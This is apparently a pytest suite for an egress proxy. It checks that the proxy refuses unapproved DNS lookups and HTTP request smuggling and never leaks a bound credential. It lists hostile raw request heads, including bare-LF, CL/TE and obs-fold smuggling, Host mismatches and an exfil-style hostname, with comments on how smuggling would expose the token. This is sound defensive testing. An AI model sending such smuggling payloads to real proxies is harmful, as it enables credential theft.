"""The egress proxy speaks strict HTTP (issue 38, item 1), against an upstream written here that
stores every byte it receives and every body, and reads requests as leniently as a naive
backend does (a bare-LF header end, pipelined requests on one connection): the soil request
smuggling grows in. A script holds no credential, so what it must never do is make the proxy
judge one request while the upstream serves another, and so read the credential back.

Shown here: no DNS query for a name the policy has not approved (a resolver that logs every
name it is asked); every hostile head refused with a one-line 400 or forwarded exactly once,
re-serialised with ``Host`` the judged destination; the credential only ever in the headers of
the one proxied request; malformed request lines answered, never raised; one audit record per
request, refused or not (400, 403, 407, 429, 431, 502).
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import re
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass

import pytest

from mcp_manager.egress import EgressContext, EgressGateway, EgressProxy, EgressRecord, _connection
from skillweave.config import CredentialBinding, EgressApproval, EgressLimits
from skillweave.skills.network import declared_destinations
from tests.mcp_manager.egress_support import storing_upstream

TOKEN = "s3cret-upstream-token-7f3a"
VERSION = "c" * 64
APPROVED = "api.test"  # resolved by the test's resolver to the upstream on loopback


# --- the proxy, its DNS logger, a raw client --------------------------------------------------


@dataclass
class Served:
    port: int
    records: list[EgressRecord]
    asked: list[str]


def _context(upstream_port: int, **changes: object) -> EgressContext:
    fields: dict[str, object] = {
        "run_id": "run-strict",
        "execution_id": "run-strict/script-1",
        "skill": "paste",
        "version": VERSION,
        "declared": declared_destinations(
            [
                f"{APPROVED}:{upstream_port}",
                f"127.0.0.1:{upstream_port}",
                f"declared-only.test:{upstream_port}",
                "*.undeclared.example:9",  # another port: the name alone is not enough
            ]
        ),
        "approval": EgressApproval(
            destinations=(f"{APPROVED}:{upstream_port}", f"127.0.0.1:{upstream_port}"),
            private=(f"{APPROVED}:{upstream_port}", f"127.0.0.1:{upstream_port}"),
            version=VERSION,
        ),
        "credentials": tuple(
            CredentialBinding(
                destination=f"{host}:{upstream_port}",
                header="Authorization",
                value="Bearer ${PASTE_TOKEN}",
            )
            for host in (APPROVED, "127.0.0.1")
        ),
        "secrets": {"PASTE_TOKEN": TOKEN},
    }
    fields.update(changes)
    return EgressContext(**fields)  # type: ignore[arg-type]


@contextlib.asynccontextmanager
async def proxy_for(ctx: EgressContext) -> AsyncIterator[Served]:
    records: list[EgressRecord] = []
    asked: list[str] = []

    async def logging_resolver(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["127.0.0.1"] if host in (APPROVED, "127.0.0.1") else []

    proxy = EgressProxy(ctx, audit=records.append, resolver=logging_resolver)
    port = await proxy.serve_tcp()
    try:
        yield Served(port, records, asked)
    finally:
        await proxy.aclose()


def exchange(port: int, data: bytes) -> bytes:
    """Send `data` as a script would, raw, and read until the proxy closes."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(data)
        return b"".join(iter(lambda: sock.recv(65536), b""))


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.") else 0


def one_line_refusal(answer: bytes, status: int) -> str:
    """The proxy's own answer: `status`, text/plain, one line; returns the line."""
    head, _, body = answer.partition(b"\r\n\r\n")
    assert status_of(answer) == status, answer
    assert b"content-type: text/plain" in head.lower(), head
    assert body.endswith(b"\n"), body
    assert body.count(b"\n") == 1, body
    return body.decode().strip()


# --- no DNS query for what is not approved ----------------------------------------------------

EXFIL = "exfil-6a6f622d736563726574.undeclared.example"


@pytest.mark.parametrize(
    "request_text",
    [
        "GET http://{exfil}/x HTTP/1.1\r\nHost: {exfil}\r\n\r\n",
        "CONNECT {exfil}:443 HTTP/1.1\r\nHost: {exfil}:443\r\n\r\n",
        "CONNECT {exfil}:9 HTTP/1.1\r\nHost: {exfil}:9\r\n\r\n",  # declared, not approved
        "GET http://declared-only.test:{up}/ HTTP/1.1\r\nHost: declared-only.test:{up}\r\n\r\n",
        "CONNECT declared-only.test:{up} HTTP/1.1\r\nHost: declared-only.test:{up}\r\n\r\n",
        "GET http://{approved}:{other}/ HTTP/1.1\r\nHost: {approved}:{other}\r\n\r\n",
        # an approved name on the request line, another in Host: refused before any lookup
        "GET http://{approved}:{up}/ HTTP/1.1\r\nHost: {exfil}\r\n\r\n",
        "GET http://{exfil}/ HTTP/1.1\r\nHost: {approved}:{up}\r\n\r\n",
    ],
    ids=[
        "http-undeclared",
        "connect-undeclared",
        "connect-declared-port-unapproved",
        "http-declared-unapproved",
        "connect-declared-unapproved",
        "approved-name-other-port",
        "host-header-exfil",
        "request-line-exfil",
    ],
)
async def test_no_name_is_looked_up_before_it_is_approved(request_text: str) -> None:
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        text = request_text.format(
            exfil=EXFIL, approved=APPROVED, up=upstream.port, other=upstream.port + 1
        )
        answer = await asyncio.to_thread(exchange, proxy.port, text.encode())
    assert status_of(answer) in (400, 403), answer
    assert proxy.asked == []  # not one DNS query
    assert upstream.connections == []
    (record,) = proxy.records
    assert not record.allowed
    assert record.status == status_of(answer)


@pytest.mark.parametrize(
    "ctx_changes",
    [
        {"approval": None},
        {"approval": EgressApproval(destinations=("api.test",), version="d" * 64)},
    ],
    ids=["no-approval", "approval-of-another-version"],
)
async def test_a_skill_without_a_valid_approval_looks_nothing_up(
    ctx_changes: dict[str, object],
) -> None:
    async with (
        storing_upstream() as upstream,
        proxy_for(_context(upstream.port, **ctx_changes)) as proxy,
    ):
        for text in (
            f"GET http://{APPROVED}:{upstream.port}/ HTTP/1.1\r\n"
            f"Host: {APPROVED}:{upstream.port}\r\n\r\n",
            f"CONNECT {APPROVED}:{upstream.port} HTTP/1.1\r\n"
            f"Host: {APPROVED}:{upstream.port}\r\n\r\n",
        ):
            answer = await asyncio.to_thread(exchange, proxy.port, text.encode())
            assert status_of(answer) == 403, answer
    assert proxy.asked == []
    assert [r.status for r in proxy.records] == [403, 403]


async def test_an_approved_name_is_looked_up_once_and_reached() -> None:
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        text = (
            f"GET http://{APPROVED}:{upstream.port}/read HTTP/1.1\r\n"
            f"Host: {APPROVED}:{upstream.port}\r\n\r\n"
        )
        answer = await asyncio.to_thread(exchange, proxy.port, text.encode())
        tunnel = await asyncio.to_thread(
            exchange,
            proxy.port,
            f"CONNECT {APPROVED}:{upstream.port} HTTP/1.1\r\nHost: {APPROVED}:{upstream.port}"
            "\r\n\r\nPOST /t HTTP/1.1\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi".encode(),
        )
    assert status_of(answer) == 200, answer
    assert tunnel.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK")
    assert proxy.asked == [APPROVED, APPROVED]
    (head, tunnelled) = upstream.heads
    assert head.startswith(b"GET /read HTTP/1.1\r\n")
    assert f"\r\nHost: {APPROVED}:{upstream.port}\r\n".encode() in head
    assert tunnelled.startswith(b"POST /t HTTP/1.1")  # a tunnel is opaque: as the client sent
    assert upstream.bodies == [b"hi"]
    assert [(r.kind, r.allowed) for r in proxy.records] == [("request", True), ("connect", True)]


# --- hostile heads: refused, or forwarded once, re-serialised ---------------------------------

HOSTILE = {
    "host-mismatch": "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n",
    "duplicate-host": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Host: elsewhere.example\r\n\r\n"
    ),
    "bare-lf-in-value": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "X-Note: a\nHost: elsewhere.example\r\n\r\n"
    ),
    "bare-cr-in-value": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "X-Note: a\rHost: elsewhere.example\r\n\r\n"
    ),
    # For the upstream, each head ends at its bare LFs; a naive proxy reads on to the CRLF
    # CRLF and appends its headers there, inside what the upstream reads as the second
    # request's body: "X: y", the idempotency key's line, the credential's (120 bytes), stored.
    "bare-lf-head-end-smuggles": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 0\n\n"
        "POST /store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nContent-Length: 120\n\n"
        "X: y\r\n\r\n"
    ),
    "cl-and-te": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\n\r\nPOST /store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nContent-Length: 5\r\n\r\nextra"
    ),
    "duplicate-content-length": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 0\r\nContent-Length: 0\r\n\r\n"
    ),
    "content-length-list": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 2, 2\r\n\r\nhi"
    ),
    "te-not-chunked": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n"
    ),
    "obs-fold": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "X-Note: a\r\n Host: elsewhere.example\r\n\r\n"
    ),
    "control-character": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nX-Note: a\x01b\r\n\r\n"
    ),
    "origin-form": "GET /read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n",
    "space-before-colon": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Host : elsewhere.example\r\n\r\n"
    ),
    "userinfo-before-the-host": (
        "GET http://127.0.0.1:{up}@elsewhere.example/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n"
    ),
    "signed-content-length": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: +2\r\n\r\nhi"
    ),
    # Forwarded, once: the second request (a pipelined one) never reaches the upstream.
    "pipelined-second-request": (
        "GET http://127.0.0.1:{up}/first HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n"
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 5\r\n\r\nextra"
    ),
    "body-then-a-second-request": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Content-Length: 2\r\n\r\nhi"
        "POST /store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nContent-Length: 5\r\n\r\nextra"
    ),
    "chunked-then-a-second-request": (
        "POST http://127.0.0.1:{up}/store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Transfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n\r\n"
        "POST /store HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nContent-Length: 5\r\n\r\nextra"
    ),
    "script-sends-its-own-authorization": (
        "GET http://127.0.0.1:{up}/read HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n"
        "Authorization: Bearer mine\r\nConnection: X-Keep\r\nX-Keep: hop\r\n"
        "Proxy-Authorization: Bearer anything\r\n\r\n"
    ),
}
FORWARDED = {
    "pipelined-second-request",
    "body-then-a-second-request",
    "chunked-then-a-second-request",
    "script-sends-its-own-authorization",
}


@pytest.mark.parametrize("case", list(HOSTILE))
async def test_a_hostile_head_is_refused_or_forwarded_once_and_the_credential_stays_put(
    case: str,
) -> None:
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        raw = HOSTILE[case].format(up=upstream.port).encode("latin-1")
        answer = await asyncio.to_thread(exchange, proxy.port, raw)
        # The script then tries to read back whatever the upstream stored.
        read_back = await asyncio.to_thread(
            exchange,
            proxy.port,
            f"GET http://127.0.0.1:{upstream.port}/read HTTP/1.1\r\n"
            f"Host: 127.0.0.1:{upstream.port}\r\n\r\n".encode(),
        )

    assert TOKEN.encode() not in answer + read_back
    for body in upstream.bodies:
        assert TOKEN.encode() not in body
    if case in FORWARDED:
        assert status_of(answer) == 200, answer
        _forwarded, _read_back = upstream.connections  # the case's, then the read-back
    else:
        assert one_line_refusal(answer, 400)
        (_read_back,) = upstream.connections  # the read-back alone
    # What each upstream connection received: one request, as the proxy wrote it, the
    # credential in its head and nowhere else.
    for received in upstream.connections:
        head, _, after = bytes(received).partition(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        assert lines[0].split(b" ")[1].startswith(b"/"), head  # origin form
        assert lines.count(f"Host: 127.0.0.1:{upstream.port}".encode()) == 1, head
        assert sum(line.lower().startswith(b"host:") for line in lines) == 1, head
        assert lines.count(f"Authorization: Bearer {TOKEN}".encode()) == 1, head
        assert b"Connection: close" in lines
        assert TOKEN.encode() not in after
        assert not re.search(rb"(?i)\r\n(proxy-authorization|x-keep):", head)
        assert b" HTTP/1.1\r\n" not in after  # no second request
    assert len(upstream.heads) == len(upstream.connections)
    # One record per request: the case's, then the read-back.
    assert len(proxy.records) == 2
    first, second = proxy.records
    assert first.allowed == (case in FORWARDED)
    assert first.status == (None if case in FORWARDED else 400)
    assert second.allowed


async def test_the_credential_replaces_the_scripts_header_and_bodies_are_re_framed() -> None:
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        big = b"x" * 200_000
        raw = (
            f"POST http://127.0.0.1:{upstream.port}/store HTTP/1.1\r\nHost: 127.0.0.1:"
            f"{upstream.port}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
            + b"%x\r\n%s\r\n0\r\nX-Trailer: " % (len(big), big)
            + TOKEN.encode()
            + b"\r\n\r\n"
        )
        answer = await asyncio.to_thread(exchange, proxy.port, raw)
    assert status_of(answer) == 200
    assert upstream.bodies == [big]
    (received,) = upstream.connections
    assert bytes(received).endswith(b"\r\n0\r\n\r\n")  # the proxy's own last chunk, no trailer
    (record,) = proxy.records
    assert (record.allowed, record.reason) == (True, "forwarded with a bound credential")
    assert record.bytes_out >= len(big)


# --- malformed request lines: answered, recorded, never raised --------------------------------

MALFORMED = {
    "double-port": "GET http://127.0.0.1:1:2/ HTTP/1.1\r\nHost: 127.0.0.1:1:2\r\n\r\n",
    "double-port-connect": "CONNECT 127.0.0.1:1:2 HTTP/1.1\r\nHost: 127.0.0.1:1:2\r\n\r\n",
    "bracketed-name": "GET http://[evil.example]/ HTTP/1.1\r\nHost: [evil.example]\r\n\r\n",
    "bracketed-name-connect": (
        "CONNECT [evil.example]:443 HTTP/1.1\r\nHost: [evil.example]:443\r\n\r\n"
    ),
    "full-width-letters": "GET http://ｅｖｉｌ.example/ HTTP/1.1\r\nHost: ｅｖｉｌ.example\r\n\r\n",
    "full-width-host-header": "GET http://api.test/ HTTP/1.1\r\nHost: ａｐｉ.test\r\n\r\n",
    "full-width-connect": "CONNECT ｅｖｉｌ.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "full-width-port": "CONNECT api.test:４４３ HTTP/1.1\r\nHost: api.test:４４３\r\n\r\n",
    "userinfo": "GET http://user:pw@api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "empty-host": "GET http:///x HTTP/1.1\r\nHost: \r\n\r\n",
    "empty-host-connect": "CONNECT :443 HTTP/1.1\r\nHost: :443\r\n\r\n",
    "huge-port": (
        "GET http://api.test:99999999999999999999/ HTTP/1.1\r\n"
        "Host: api.test:99999999999999999999\r\n\r\n"
    ),
    "port-out-of-range-connect": "CONNECT api.test:65536 HTTP/1.1\r\nHost: api.test:65536\r\n\r\n",
    "connect-without-port": "CONNECT api.test HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "connect-url": "CONNECT http://api.test:443/ HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
    "https-url": "GET https://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "wildcard-host": "GET http://*.example.org/ HTTP/1.1\r\nHost: *.example.org\r\n\r\n",
    "percent-host": "GET http://%65vil.example/ HTTP/1.1\r\nHost: %65vil.example\r\n\r\n",
    "space-in-target": "GET http://api.test/ x HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "no-version": "GET http://api.test/\r\nHost: api.test\r\n\r\n",
    "http-2": "GET http://api.test/ HTTP/2.0\r\nHost: api.test\r\n\r\n",
    "no-host-header": "GET http://api.test/ HTTP/1.1\r\n\r\n",
    "fragment": "GET http://api.test/#x HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "garbage": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "bare-lf-request-line": "GET http://api.test/ HTTP/1.1\nHost: api.test\r\n\r\n",
    "closed-within-the-head": "GET http://api.test/ HTTP/1.1\r\nHost: api",
}


@pytest.mark.parametrize("case", list(MALFORMED))
async def test_a_malformed_request_is_answered_in_one_line_and_recorded(
    case: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        raw = MALFORMED[case].encode("utf-8")

        def send() -> bytes:
            with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
                sock.sendall(raw)
                if case == "closed-within-the-head":
                    sock.shutdown(socket.SHUT_WR)
                return b"".join(iter(lambda: sock.recv(65536), b""))

        answer = await asyncio.to_thread(send)
    reason = one_line_refusal(answer, 400)
    assert reason
    assert proxy.asked == []
    assert upstream.connections == []
    (record,) = proxy.records
    assert (record.allowed, record.status, record.reason) == (False, 400, reason)
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


# --- every status the proxy answers has its one record ----------------------------------------


async def test_every_answer_of_the_proxy_has_one_record() -> None:
    async with storing_upstream() as upstream:
        dead = socket.socket()
        dead.bind(("127.0.0.1", 0))
        closed_port = dead.getsockname()[1]
        dead.close()
        ctx = _context(
            upstream.port,
            declared=declared_destinations(
                [f"127.0.0.1:{upstream.port}", f"127.0.0.1:{closed_port}"]
            ),
            approval=EgressApproval(
                destinations=(f"127.0.0.1:{upstream.port}", f"127.0.0.1:{closed_port}"),
                private=(f"127.0.0.1:{upstream.port}", f"127.0.0.1:{closed_port}"),
            ),
            limits=EgressLimits(max_connections=2),
        )
        async with proxy_for(ctx) as proxy:

            def get(port: int, extra: str = "") -> int:
                text = f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                return status_of(exchange(proxy.port, (text + extra + "\r\n").encode()))

            statuses = [
                await asyncio.to_thread(get, upstream.port, "X-Big: " + "a" * 70_000 + "\r\n"),
                await asyncio.to_thread(get, closed_port),  # nothing listens: 502
                await asyncio.to_thread(get, upstream.port),  # 200
                await asyncio.to_thread(get, upstream.port),  # past the cap of 2: 429
            ]
    assert statuses == [431, 502, 200, 429]
    assert [(r.allowed, r.status) for r in proxy.records] == [
        (False, 431),
        (False, 502),
        (True, None),
        (False, 429),
    ]


async def test_the_gateway_records_a_refused_head_with_its_execution_and_407_without() -> None:
    records: list[EgressRecord] = []
    gateway = EgressGateway(audit=records.append)
    _, port = await gateway.start()
    try:
        async with storing_upstream() as upstream:
            token = gateway.grant(_context(upstream.port))
            # As the executor's bridge sends it: the grant right after the request line.
            smuggling = HOSTILE["bare-lf-head-end-smuggles"].format(up=upstream.port)
            line, _, rest = smuggling.partition("\r\n")
            granted = f"{line}\r\nProxy-Authorization: Bearer {token}\r\n{rest}".encode()
            answer = await asyncio.to_thread(exchange, port, granted)
            no_grant = await asyncio.to_thread(exchange, port, smuggling.encode())
            await gateway.revoke(token)
    finally:
        await gateway.aclose()
    assert status_of(answer) == 400
    assert status_of(no_grant) == 407
    assert upstream.connections == []
    assert [(r.execution_id, r.status) for r in records] == [
        ("run-strict/script-1", 400),
        ("", 407),
    ]


async def test_a_body_past_the_byte_cap_is_refused_and_recorded() -> None:
    async with storing_upstream() as upstream:
        ctx = _context(upstream.port, limits=EgressLimits(max_bytes=1000))
        async with proxy_for(ctx) as proxy:
            raw = (
                f"POST http://127.0.0.1:{upstream.port}/store HTTP/1.1\r\n"
                f"Host: 127.0.0.1:{upstream.port}\r\nContent-Length: 5000\r\n\r\n".encode()
                + b"x" * 5000
            )
            answer = await asyncio.to_thread(exchange, proxy.port, raw)
    assert "cap of 1000 bytes" in one_line_refusal(answer, 429)
    assert upstream.bodies == []
    (record,) = proxy.records
    assert (record.allowed, record.status) == (False, 429)


async def test_a_head_that_does_not_arrive_in_time_is_answered_408_and_recorded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_connection, "_HEAD_SECONDS", 0.3)
    async with storing_upstream() as upstream, proxy_for(_context(upstream.port)) as proxy:
        answer = await asyncio.to_thread(
            exchange, proxy.port, b"GET http://api.test/ HTTP/1.1\r\nHost: api.t"
        )
    assert "no complete request head within 0.3 seconds" in one_line_refusal(answer, 408)
    (record,) = proxy.records
    assert (record.allowed, record.status, record.method) == (False, 408, "GET")
